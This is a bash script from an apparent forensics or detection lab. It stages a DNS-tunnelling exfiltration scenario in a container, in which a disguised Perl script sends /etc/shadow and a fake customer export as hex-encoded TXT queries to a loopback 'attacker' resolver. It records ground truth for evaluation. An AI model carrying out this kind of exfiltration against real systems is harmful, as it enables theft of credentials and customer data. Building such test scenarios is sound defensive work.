#!/bin/bash
# Scenario dnsexfil-udp: DNS tunnelling over UDP. A Perl script started later in the
# container (not the workload) reads /etc/shadow and the workload's customer export,
# hex-encodes them and sends them as the labels of TXT queries under a random zone to an
# attacker's resolver on 127.101.x.y:53 (UDP, connected socket), one query every 60 ms.
# The checkpoint is taken mid-exfiltration (30+ chunks received, hundreds to go).
# Usage: lab/scenarios/dnsexfil-udp.sh OUTDIR
source "$(dirname "$0")/../lib/common.sh"
lab_init dnsexfil-udp "$@"

RES="$(lab_addr 101):53"
ZONE=$(lab_zone)
SID=$(lab_hex 3)
EXPORT=/srv/inventory/export/customers-$(date +%Y%m%d).csv
SCRIPT=/usr/local/lib/inventory/.nscache
FILES="/etc/shadow $EXPORT"
"$LAB_PY" "$LAB_DIR/lib/fakedata.py" customers 400 >"$WORK/customers.csv" || lab_die "fakedata failed"
lab_template "$SPEC/nscache.pl" "$WORK/nscache.pl" "RESOLVER=$RES" "ZONE=$ZONE" "SID=$SID" \
    "FILES=$FILES" "PACE=0.06"

lab_udp_bound ${RES%:*} 53 && lab_die "$RES is already in use"
lab_peer resolver perl "$PEERS/dns_resolver.pl" --listen "$RES" --proto udp --zone "$ZONE" \
    --encoding hex --meta-labels 2 --summary "$WORK/peer-resolver.json"
lab_wait "resolver on udp $RES" 10 lab_udp_bound ${RES%:*} 53

lab_run --env APP_ENV=prod --hostname inventory-sync -- \
    sh -c 'date > /var/log/app.log; while :; do sleep 3600; done'
lab_cp "$WORK/customers.csv" "$EXPORT" 0640
lab_cp "$WORK/nscache.pl" "$SCRIPT" 0755
lab_exec_bg "perl $SCRIPT"
lab_wait "30 chunks tunnelled" 20 lab_json "$WORK/peer-resolver.json" 'd["in_zone"] >= 30'

lab_finish "$SCRIPT" "$EXPORT" /etc/shadow

lab_kv_json "$WORK/params.json" "resolver=$RES" "zone=$ZONE" encoding=hex transport=udp \
    "session_id=$SID" "script_path=$SCRIPT" "exfiltrated_files:=$(lab_json_list $FILES)" \
    "query_type=TXT" "name_format=<hex60>.<hex60>.<session>.<seq>.<zone>"
lab_facts --conn "tunnel=$RES"
lab_truth --description "DNS tunnel: perl $SCRIPT hex-encodes /etc/shadow and $EXPORT into TXT queries under $ZONE to the UDP resolver $RES" \
    --params "$WORK/params.json" --facts "$WORK/facts.json"
